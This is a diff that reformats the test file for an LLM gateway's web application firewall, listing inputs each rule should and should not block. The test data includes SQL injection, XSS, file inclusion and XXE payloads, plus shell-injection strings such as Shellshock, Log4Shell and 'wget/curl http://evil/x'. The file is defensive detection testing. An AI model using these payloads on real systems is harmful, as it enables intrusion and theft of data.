@@ -19,8 +19,12 @@ from gateway.waf.parts import RequestView
 from gateway.waf.transforms import quote_split_words
 
 CHAT = "/v1/chat/completions"
-BASE_HEADERS = [("host", "gw"), ("user-agent", "openai-python/1.40"), ("content-type", "application/json"),
-                ("authorization", "Bearer sk-test")]
+BASE_HEADERS = [
+    ("host", "gw"),
+    ("user-agent", "openai-python/1.40"),
+    ("content-type", "application/json"),
+    ("authorization", "Bearer sk-test"),
+]
 
 
 def request(where: str, text: str) -> RequestView:
@@ -64,79 +68,145 @@ def request(where: str, text: str) -> RequestView:
     elif where == "noua":
         headers = [(k, v) for k, v in headers if k != "user-agent"]
     body = json.dumps(payload).encode()
-    return RequestView(method="POST", path=path, query=query, headers=headers, body=body, payload=payload,
-                       route="chat", model="m")
+    return RequestView(
+        method="POST", path=path, query=query, headers=headers, body=body, payload=payload, route="chat", model="m"
+    )
 
 
 # rule id -> ([(where, text) that must fire], [(where, text) that must not])
 CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     # sqli
-    "sqli-100": ([("q", "1' OR '1'='1' --"), ("json", "x' UNION SELECT password FROM users--")],
-                 [("q", "O'Reilly books"), ("prompt", "' OR 1=1 -- explain why this SQL injection works"),
-                  ("json", "One quarter (24%) of people have had an affair and cheated on a partner at some point")]),
+    "sqli-100": (
+        [("q", "1' OR '1'='1' --"), ("json", "x' UNION SELECT password FROM users--")],
+        [
+            ("q", "O'Reilly books"),
+            ("prompt", "' OR 1=1 -- explain why this SQL injection works"),
+            ("json", "One quarter (24%) of people have had an affair and cheated on a partner at some point"),
+        ],
+    ),
     "sqli-101": ([("q", "1' or 1=1")], [("q", "rock and roll")]),
     "sqli-102": ([("path", "/v1/chat/completions/1'%20or%20'a'='a")], [("path", "/v1/chat/completions")]),
     "sqli-110": ([("q", "1 UNION/**/ALL SELECT null,null")], [("q", "the union selected a leader")]),
     "sqli-120": ([("q", "x' or 'a'='a")], [("q", "x or y")]),
     "sqli-121": ([("q", "1 or 1=1")], [("q", "1 or 2 apples")]),
-    "sqli-130": ([("q", "1 AND sleep(5)"), ("h:user-agent", "x' and benchmark(9999999,md5(1))")],
-                 [("q", "I need sleep tonight")]),
+    "sqli-130": (
+        [("q", "1 AND sleep(5)"), ("h:user-agent", "x' and benchmark(9999999,md5(1))")],
+        [("q", "I need sleep tonight")],
+    ),
     "sqli-140": ([("q", "1; DROP TABLE users")], [("q", "first; then second")]),
     "sqli-150": ([("q", "admin'--")], [("q", "it's fine -- really")]),
-    "sqli-141": ([("q", "x;drop table t"), ("q", "SET @a=1"), ("q", "(select 1)"), ("h:user-agent", "1' union select 1")],
-                 [("q", "see below; updates follow"), ("q", 'Die "Union von Europa"'), ("q", "set a reminder")]),
-    "sqli-142": ([("q", "x OR (7319=8742)"), ("q", "1 OR 1#"), ("q", "DROP t;--")],
-                 [("q", "left or (right) way"), ("q", "fish and")]),
+    "sqli-141": (
+        [("q", "x;drop table t"), ("q", "SET @a=1"), ("q", "(select 1)"), ("h:user-agent", "1' union select 1")],
+        [("q", "see below; updates follow"), ("q", 'Die "Union von Europa"'), ("q", "set a reminder")],
+    ),
+    "sqli-142": (
+        [("q", "x OR (7319=8742)"), ("q", "1 OR 1#"), ("q", "DROP t;--")],
+        [("q", "left or (right) way"), ("q", "fish and")],
+    ),
     "sqli-143": ([("q", "MAX("), ("q", "FLOOR ("), ("q", "date]=(")], [("q", "max (of two)"), ("q", "left (north)")]),
     "sqli-144": ([("q", "4294967296"), ("q", "2.2250738585072011e-308")], [("q", "4294967"), ("q", "2.5e-3")]),
     "sqli-151": ([("q", "x'#")], [("q", "item #4")]),
     "sqli-160": ([("q", "select name from users where 1")], [("q", "please select one from the list")]),
-    "sqli-170": ([("q", "1 and @@version"), ("q", "x from information_schema.tables")],
-                 [("q", "version 2 of the schema")]),
+    "sqli-170": (
+        [("q", "1 and @@version"), ("q", "x from information_schema.tables")],
+        [("q", "version 2 of the schema")],
+    ),
     "sqli-180": ([("q", "x' and ascii(substr(pw,1,1))>64")], [("q", "rock 'n' roll")]),
     "sqli-181": ([("q", "ascii(substring((select pw),1,1))")], [("q", "substring of a word")]),
     "sqli-182": ([("q", "1 order by 3--")], [("q", "in order to buy")]),
     "sqli-183": ([("q", "1 /*!50000union*/ select")], [("q", "a /* comment */ b")]),
     "sqli-184": ([("q", "a<>b"), ("q", "x rlike y"), ("q", "id != 3")], [("q", "likely yes"), ("q", "11!=11")]),
-    "sqli-194": ([("q", "' union select 1"), ("q", "x' union/**/all"), ("q", "a'or?--"), ("q", "\\'and"),
-                  ("q", "'''or"), ("q", '"1 or 1-'), ("q", "or 88"), ("q", "and '5'x"), ("q", "1' or")],
-                 [("q", "''or"), ("q", 'Die "Union von Europa"'), ("q", "bob's or alice's"), ("q", "and 5 more"),
-                  ("q", "rock 'n' roll or jazz"), ("q", "'a' 'b' or")]),
-    "sqli-193": ([("q", "1’ OR ’1’=’x’#"), ("q", "admin‘--"), ("q", "x´ union select 1"), ("q", "a＇;drop table t")],
-                 [("q", "it’s fine"), ("q", "the ‘best’ one"), ("q", "5′ tall")]),
-    "sqli-192": ([("q", "1=1"), ("q", "' or 'a'='a"), ("q", "x' or 2>1--"), ("q", "42 like 42"), ("q", "1 is not 2"),
-                  ("q", "11!=1"), ("q", "' or 'abc'=0 -- "), ("q", "'x' like 'X%'"), ("q", "1 or 1 /*c*/=/**/ 1")],
-                 [("q", "11!=11"), ("q", "123<456"), ("q", "x1=1"), ("q", "'a' = 'b'"), ("q", "'1' not regexp '1'"),
-                  ("q", "version 1.2=1.20a"), ("q", "'a' like 'b%'")]),
+    "sqli-194": (
+        [
+            ("q", "' union select 1"),
+            ("q", "x' union/**/all"),
+            ("q", "a'or?--"),
+            ("q", "\\'and"),
+            ("q", "'''or"),
+            ("q", '"1 or 1-'),
+            ("q", "or 88"),
+            ("q", "and '5'x"),
+            ("q", "1' or"),
+        ],
+        [
+            ("q", "''or"),
+            ("q", 'Die "Union von Europa"'),
+            ("q", "bob's or alice's"),
+            ("q", "and 5 more"),
+            ("q", "rock 'n' roll or jazz"),
+            ("q", "'a' 'b' or"),
+        ],
+    ),
+    "sqli-193": (
+        [("q", "1’ OR ’1’=’x’#"), ("q", "admin‘--"), ("q", "x´ union select 1"), ("q", "a＇;drop table t")],
+        [("q", "it’s fine"), ("q", "the ‘best’ one"), ("q", "5′ tall")],
+    ),
+    "sqli-192": (
+        [
+            ("q", "1=1"),
+            ("q", "' or 'a'='a"),
+            ("q", "x' or 2>1--"),
+            ("q", "42 like 42"),
+            ("q", "1 is not 2"),
+            ("q", "11!=1"),
+            ("q", "' or 'abc'=0 -- "),
+            ("q", "'x' like 'X%'"),
+            ("q", "1 or 1 /*c*/=/**/ 1"),
+        ],
+        [
+            ("q", "11!=11"),
+            ("q", "123<456"),
+            ("q", "x1=1"),
+            ("q", "'a' = 'b'"),
+            ("q", "'1' not regexp '1'"),
+            ("q", "version 1.2=1.20a"),
+            ("q", "'a' like 'b%'"),
+        ],
+    ),
     "sqli-185": ([("q", "group_concat(password)")], [("q", "left (north) side")]),
-    "sqli-186": ([("q", "1 as x from users"), ("q", "'{\"a\":1}' ? 'a'"), ("q", "user'collate nocase--"),
-                  ("q", "1 except select 2")],
-                 [("q", "as far from here"), ("q", "user'collate foo"), ("q", "what's up? 'a'")]),
+    "sqli-186": (
+        [
+            ("q", "1 as x from users"),
+            ("q", "'{\"a\":1}' ? 'a'"),
+            ("q", "user'collate nocase--"),
+            ("q", "1 except select 2"),
+        ],
+        [("q", "as far from here"), ("q", "user'collate foo"), ("q", "what's up? 'a'")],
+    ),
     "sqli-187": ([("q", "'1'='1")], [("q", "it's"), ("cookie", '[["AKsRol96","x=="]]')]),
     "sqli-188": ([("q", "xp_cmdshell"), ("q", "`users`")], [("q", "xp points"), ("q", "use `git log` here")]),
     "sqli-189": ([("qname", "user[$ne]"), ("qname", "id[$regex]")], [("qname", "user[name]")]),
     "sqli-190": ([("q", "');(--#\"=);<>|&*');(--#\"=);<>")], [("q", "hello (world) = fine")]),
     "sqli-191": ([("q", "'abc")], [("q", "abc")]),
     # xss
-    "xss-100": ([("q", "<script>alert(1)</script>"), ("q", "style=x:expression(alert(1))\">")],
-                [("q", "1 < 2 and 3 > 2"), ("q", "style=color:red;background:url(https://example.com/x)")]),
+    "xss-100": (
+        [("q", "<script>alert(1)</script>"), ("q", 'style=x:expression(alert(1))">')],
+        [("q", "1 < 2 and 3 > 2"), ("q", "style=color:red;background:url(https://example.com/x)")],
+    ),
     "xss-110": ([("q", "%3Cscript%3E"), ("h:referer", "<script src=//x>")], [("q", "scripted reply")]),
     "xss-120": ([("q", "<img src=x onerror=alert(1)>")], [("q", "<b>bold</b>")]),
-    "xss-121": ([("q", "\" onmouseover=alert(1) x=\"")], [("q", "\"quoted\" words")]),
-    "xss-122": ([("q", " onload=alert(1)"), ("q", "\"onzoom=")], [("q", "going onwards = good"), ("q", "aGk/onafe=")]),
+    "xss-121": ([("q", '" onmouseover=alert(1) x="')], [("q", '"quoted" words')]),
+    "xss-122": ([("q", " onload=alert(1)"), ("q", '"onzoom=')], [("q", "going onwards = good"), ("q", "aGk/onafe=")]),
     "xss-130": ([("q", "jav&#x09;ascript:alert(1)")], [("q", "see the javascript docs")]),
     "xss-131": ([("q", "ja&tab;vascript&colon;alert(1)")], [("q", "java script tutorial")]),
     "xss-192": ([("q", "(![]+[])[+!+[]]")], [("q", "a[0] + b[1]")]),
     "xss-140": ([("q", "<iframe src=//evil>")], [("q", "an iframe is an element")]),
-    "xss-150": ([("q", "document.cookie"), ("q", "x;alert(1)")], [("q", "the cookie document"), ("q", "\u00bcalert(1)")]),
-    "xss-160": ([("q", "<a href=x>"), ("q", "<x>"), ("q", "<a href=\"javascript:x\">")],
-                [("q", "a < b"), ("q", "see <a href=\"https://example.com/a?b=c\">this</a>."), ("q", "</p>"), ("q", "-->")]),
+    "xss-150": (
+        [("q", "document.cookie"), ("q", "x;alert(1)")],
+        [("q", "the cookie document"), ("q", "\u00bcalert(1)")],
+    ),
+    "xss-160": (
+        [("q", "<a href=x>"), ("q", "<x>"), ("q", '<a href="javascript:x">')],
+        [("q", "a < b"), ("q", 'see <a href="https://example.com/a?b=c">this</a>.'), ("q", "</p>"), ("q", "-->")],
+    ),
     "xss-193": ([("q", "-->")], [("q", "a -> b")]),
-    "xss-194": ([("q", "\" in valueOf="), ("q", "'  infoo.bar=")], [("q", "\"in\" is a word")]),
-    "xss-195": ([("h:x-data", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">"), ("q", "!ENTITY % p SYSTEM")],
-                [("q", "an entity in the system")]),
+    "xss-194": ([("q", '" in valueOf='), ("q", "'  infoo.bar=")], [("q", '"in" is a word')]),
+    "xss-195": (
+        [("h:x-data", '<!ENTITY xxe SYSTEM "file:///etc/passwd">'), ("q", "!ENTITY % p SYSTEM")],
+        [("q", "an entity in the system")],
+    ),
     "xss-170": ([("q", "width:expression(alert(1))")], [("q", "an expression of joy")]),
-    "xss-180": ([("q", "\"><b")], [("q", "say \"hi\"")]),
+    "xss-180": ([("q", '"><b')], [("q", 'say "hi"')]),
     "xss-190": ([("path", "/v1/chat/completions/<svg/onload=alert(1)>")], [("path", "/v1/models")]),
     "xss-191": ([("q", "<f o r m")], [("q", "<- arrow")]),
     # lfi
@@ -148,18 +218,31 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     "lfi-150": ([("q", "/etc/shadow"), ("q", "file:///etc/x")], [("q", "etc/ is a folder")]),
     "lfi-160": ([("path", "/v1/x/proc/self/environ")], [("path", "/v1/processes/1")]),
     # rce
-    "rce-100": ([("q", "x; cat /etc/passwd"), ("q", "a | id"), ("q", ";$a cat $a test.txt"), ("q", "a; sh$XX -c id")],
-                [("q", "cats; dogs"), ("q", "price; $5 each")]),
-    "rce-151": ([("q", "'wh'oami"), ("q", '"w"get localhost'), ("q", "x; c'a't /etc/passwd"), ("q", "'i'p a")],
-                [("q", "O'Keefe's cat"), ("q", 'the "ip" field'), ("q", "That's two \"O\"s in goose"),
-                 ("q", "don't ping me")]),
-    "rce-153": ([("q", "~+"), ("q", "~-1"), ("q", "~+/.ssh/id_rsa")], [("q", "~5"), ("q", "~+ about ten"), ("q", "a~-b")]),
-    "rce-152": ([("q", "garb=adduse[r];$garb pizza"), ("q", "v='u';cu$v\\r\\l google.com"), ("q", "a=b; ${a} x")],
-                [("q", "x=1; y=2"), ("q", "total=5; costs $5")]),
-    "rce-110": ([("q", "$(whoami)"), ("q", "cat${IFS}x")], [("q", "it costs $5 (approx)"), ("json", "Call `search` first")]),
+    "rce-100": (
+        [("q", "x; cat /etc/passwd"), ("q", "a | id"), ("q", ";$a cat $a test.txt"), ("q", "a; sh$XX -c id")],
+        [("q", "cats; dogs"), ("q", "price; $5 each")],
+    ),
+    "rce-151": (
+        [("q", "'wh'oami"), ("q", '"w"get localhost'), ("q", "x; c'a't /etc/passwd"), ("q", "'i'p a")],
+        [("q", "O'Keefe's cat"), ("q", 'the "ip" field'), ("q", 'That\'s two "O"s in goose'), ("q", "don't ping me")],
+    ),
+    "rce-153": (
+        [("q", "~+"), ("q", "~-1"), ("q", "~+/.ssh/id_rsa")],
+        [("q", "~5"), ("q", "~+ about ten"), ("q", "a~-b")],
+    ),
+    "rce-152": (
+        [("q", "garb=adduse[r];$garb pizza"), ("q", "v='u';cu$v\\r\\l google.com"), ("q", "a=b; ${a} x")],
+        [("q", "x=1; y=2"), ("q", "total=5; costs $5")],
+    ),
+    "rce-110": (
+        [("q", "$(whoami)"), ("q", "cat${IFS}x")],
+        [("q", "it costs $5 (approx)"), ("json", "Call `search` first")],
+    ),
     "rce-120": ([("h:user-agent", "() { :; }; /bin/bash -c id")], [("h:user-agent", "Mozilla/5.0 (X11)")]),
-    "rce-130": ([("q", "/bin/sh -i"), ("q", "powershell -enc AAA"), ("q", "for %i in (*) do echo")],
-                [("q", "the bin is full")]),
+    "rce-130": (
+        [("q", "/bin/sh -i"), ("q", "powershell -enc AAA"), ("q", "for %i in (*) do echo")],
+        [("q", "the bin is full")],
+    ),
     "rce-140": ([("q", "wget http://evil/x"), ("q", "cat /etc/issue")], [("q", "cat videos")]),
     "rce-150": ([("q", "/b?n/c?t /etc/passwd"), ("q", "c''at x")], [("q", "what? why?")]),
     "rce-160": ([("q", "x; nc -lvp 4444"), ("q", "x 2>&1")], [("q", "x - y")]),
@@ -170,20 +253,42 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     "rce-210": ([("h:user-agent", "${jndi:ldap://evil/x}"), ("q", "${${::-j}ndi:rmi://x}")], [("q", "${name}")]),
     "rce-220": ([("q", "1;\n.shell id")], [("q", "version 1.2.shell")]),
     "rce-230": ([("q", "bin/visudo")], [("q", "recycle bin is empty")]),
-    "rce-240": ([("q", "x;visudo"), ("q", "&aptitude"), ("h:user-agent", "x=1;ssh-copy-id u@h"), ("qname", ";regedit /E x")],
-                [("q", "see below; then go"), ("q", "ls"), ("qname", "id"), ("json", "Run code in a sandbox (python 3.11)")]),
-    "rce-241": ([("q", "ansible-console"), ("q", "cscli alerts list"), ("h:user-agent", "pip3 install x"),
-                 ("q", "python -c 'import os'"), ("q", "curl http://evil/x")],
-                [("q", "tar is a dark liquid"), ("q", "wget"), ("q", "ping pong tables"), ("q", "lastlog"),
-                 ("h:user-agent", "OpenAI/Python 1.40.0"), ("h:user-agent", "curl/8.4.0"), ("q", "python 3.12 is out")]),
+    "rce-240": (
+        [("q", "x;visudo"), ("q", "&aptitude"), ("h:user-agent", "x=1;ssh-copy-id u@h"), ("qname", ";regedit /E x")],
+        [("q", "see below; then go"), ("q", "ls"), ("qname", "id"), ("json", "Run code in a sandbox (python 3.11)")],
+    ),
+    "rce-241": (
+        [
+            ("q", "ansible-console"),
+            ("q", "cscli alerts list"),
+            ("h:user-agent", "pip3 install x"),
+            ("q", "python -c 'import os'"),
+            ("q", "curl http://evil/x"),
+        ],
+        [
+            ("q", "tar is a dark liquid"),
+            ("q", "wget"),
+            ("q", "ping pong tables"),
+            ("q", "lastlog"),
+            ("h:user-agent", "OpenAI/Python 1.40.0"),
+            ("h:user-agent", "curl/8.4.0"),
+            ("q", "python 3.12 is out"),
+        ],
+    ),
     "rce-250": ([("q", "IF X%1==X/? GOTO Help"), ("q", "if /i a==b foo")], [("q", "if a is b then c")]),
-    "rce-260": ([("q", "\r\nMAIL FROM:<a@b.com>"), ("q", "\r\na001 EXAMINE INBOX"), ("q", "\r\nRETR 1")],
-                [("q", "mail from: me"), ("q", "line one\nline two")]),
-    "rce-270": ([("q", "$[2+2]"), ("q", "{l,-lh}s"), ("q", "!-1")], [("q", "{\"a\": 1}"), ("q", "wow!")]),
-    "rce-280": ([("q", "$_SERVER['test'];"), ("q", 'process["env"]'), ("q", "@{[system 'id']}")],
-                [("cookie", '[["AKsRol96","x=="]]'), ("q", "pick ['a'] or ['b']")]),
-    "rce-195": ([("h:x-filename", "wp-config.php.bak"), ("h:x-filename", "settings. php"), ("h:x-filename", ".boto")],
-                [("h:x-filename", "report.pdf"), ("h:x-filename", "my-settings-photo.png")]),
+    "rce-260": (
+        [("q", "\r\nMAIL FROM:<a@b.com>"), ("q", "\r\na001 EXAMINE INBOX"), ("q", "\r\nRETR 1")],
+        [("q", "mail from: me"), ("q", "line one\nline two")],
+    ),
+    "rce-270": ([("q", "$[2+2]"), ("q", "{l,-lh}s"), ("q", "!-1")], [("q", '{"a": 1}'), ("q", "wow!")]),
+    "rce-280": (
+        [("q", "$_SERVER['test'];"), ("q", 'process["env"]'), ("q", "@{[system 'id']}")],
+        [("cookie", '[["AKsRol96","x=="]]'), ("q", "pick ['a'] or ['b']")],
+    ),
+    "rce-195": (
+        [("h:x-filename", "wp-config.php.bak"), ("h:x-filename", "settings. php"), ("h:x-filename", ".boto")],
+        [("h:x-filename", "report.pdf"), ("h:x-filename", "my-settings-photo.png")],
+    ),
     # scanners, protocol attacks
     "scanner-100": ([("h:user-agent", "sqlmap/1.7")], [("h:user-agent", "curl/8.0")]),
     "scanner-110": ([("h:x-callback", "abc.oast.pro")], [("h:x-callback", "example.com")]),
@@ -204,14 +309,20 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     "protocol-190": ([("rawq", "&".join(f"a{i}=1" for i in range(70)))], [("rawq", "a=1&b=2")]),
     "protocol-200": ([("depth", "14")], [("depth", "5")]),
     # llm
-    "llm-secret-100": ([("prompt", "fix this:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...")],
-                       [("prompt", "what is a BEGIN PRIVATE KEY header?")]),
-    "llm-secret-110": ([("prompt", "my key AKIAIOSFODNN7EXAMPLE"), ("prompt", "token ghp_" + "a" * 36)],
-                       [("prompt", "AKIA is the prefix of AWS keys")]),
+    "llm-secret-100": (
+        [("prompt", "fix this:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...")],
+        [("prompt", "what is a BEGIN PRIVATE KEY header?")],
+    ),
+    "llm-secret-110": (
+        [("prompt", "my key AKIAIOSFODNN7EXAMPLE"), ("prompt", "token ghp_" + "a" * 36)],
+        [("prompt", "AKIA is the prefix of AWS keys")],
+    ),
     "llm-secret-120": ([("prompt", "password = hunter2hunter2")], [("prompt", "reset my password please")]),
     "llm-encoding-100": ([("prompt", "hi\u202eexe.txt")], [("prompt", "plain text")]),
-    "llm-encoding-110": ([("prompt", "a\u200bb\u200bc\u200bd\u200be\u200bf\u200bg\u200bh\u200bi\u200bj")],
-                         [("prompt", "one\u200bzero-width")]),
+    "llm-encoding-110": (
+        [("prompt", "a\u200bb\u200bc\u200bd\u200be\u200bf\u200bg\u200bh\u200bi\u200bj")],
+        [("prompt", "one\u200bzero-width")],
+    ),
     "llm-encoding-120": ([("prompt", "A" * 1200)], [("prompt", "A" * 900 + " " + "A" * 900)]),
     "llm-encoding-130": ([("bodysize", str(1024 * 1024 + 10))], [("bodysize", "5000")]),
     "llm-encoding-140": ([("prompt", "%41" * 70)], [("prompt", "100% sure")]),
@@ -242,20 +353,63 @@ def test_rule_fires_on_its_positives_and_not_on_its_negatives(waf, rule_id):
 
 
 # What real clients send: SDK and browser User-Agents, tool definitions, structured-output schemas, metadata.
-CLIENT_AGENTS = ["OpenAI/Python 1.40.0", "AsyncOpenAI/Python 1.40.0", "openai-node/4.52.0", "curl/8.4.0",
-                 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
-                 "python-requests/2.31.0", "aiohttp/3.9 Python/3.11", "Wget/1.21.4", "langchain/0.2 python/3.11"]
+CLIENT_AGENTS = [
+    "OpenAI/Python 1.40.0",
+    "AsyncOpenAI/Python 1.40.0",
+    "openai-node/4.52.0",
+    "curl/8.4.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
+    "python-requests/2.31.0",
+    "aiohttp/3.9 Python/3.11",
+    "Wget/1.21.4",
+    "langchain/0.2 python/3.11",
+]
 CHAT_FIELDS = [
-    {"tools": [{"type": "function", "function": {
-        "name": "run_python", "description": "Run Python code in a sandbox and return stdout (python 3.11)",
-        "parameters": {"type": "object", "properties": {"code": {"type": "string"}}, "required": ["code"]}}}]},
-    {"response_format": {"type": "json_schema", "json_schema": {"name": "answer", "schema": {
-        "type": "object", "properties": {"answer": {"type": "string"}, "confidence": {"type": "number"}}}}}},
+    {
+        "tools": [
+            {
+                "type": "function",
+                "function": {
+                    "name": "run_python",
+                    "description": "Run Python code in a sandbox and return stdout (python 3.11)",
+                    "parameters": {"type": "object", "properties": {"code": {"type": "string"}}, "required": ["code"]},
+                },
+            }
+        ]
+    },
+    {
+        "response_format": {
+            "type": "json_schema",
+            "json_schema": {
+                "name": "answer",
+                "schema": {
+                    "type": "object",
+                    "properties": {"answer": {"type": "string"}, "confidence": {"type": "number"}},
+                },
+            },
+        }
+    },
     {"metadata": {"user_id": "u-123", "source": "web app (beta)", "lang": "python 3.12"}, "stop": ["\n\n", "###"]},
-    {"messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": None, "tool_calls": [
-        {"id": "call_1", "type": "function",
-         "function": {"name": "get_weather", "arguments": "{\"location\": \"Paris, FR\", \"unit\": \"celsius\"}"}}]},
-        {"role": "tool", "tool_call_id": "call_1", "content": "{\"temp\": 21}"}]},
+    {
+        "messages": [
+            {"role": "user", "content": "hi"},
+            {
+                "role": "assistant",
+                "content": None,
+                "tool_calls": [
+                    {
+                        "id": "call_1",
+                        "type": "function",
+                        "function": {
+                            "name": "get_weather",
+                            "arguments": '{"location": "Paris, FR", "unit": "celsius"}',
+                        },
+                    }
+                ],
+            },
+            {"role": "tool", "tool_call_id": "call_1", "content": '{"temp": 21}'},
+        ]
+    },
 ]
 
 
@@ -268,8 +422,15 @@ def waf_pl2():
 @pytest.mark.parametrize("fields", CHAT_FIELDS, ids=["tools", "response_format", "metadata", "tool_calls"])
 def test_typical_chat_requests_pass_every_pack_at_pl2(waf_pl2, agent, fields):
     payload = {"model": "m", "messages": [{"role": "user", "content": "hi"}], **fields}
-    view = RequestView(method="POST", path=CHAT, headers=[*BASE_HEADERS[:1], ("user-agent", agent), *BASE_HEADERS[2:]],
-                       body=json.dumps(payload).encode(), payload=payload, route="chat", model="m")
+    view = RequestView(
+        method="POST",
+        path=CHAT,
+        headers=[*BASE_HEADERS[:1], ("user-agent", agent), *BASE_HEADERS[2:]],
+        body=json.dumps(payload).encode(),
+        payload=payload,
+        route="chat",
+        model="m",
+    )
     verdict = waf_pl2.evaluate(view, all_matches=True)
     assert not verdict.blocked, [(m.rule.id, m.hit.matched) for m in verdict.matches]
 
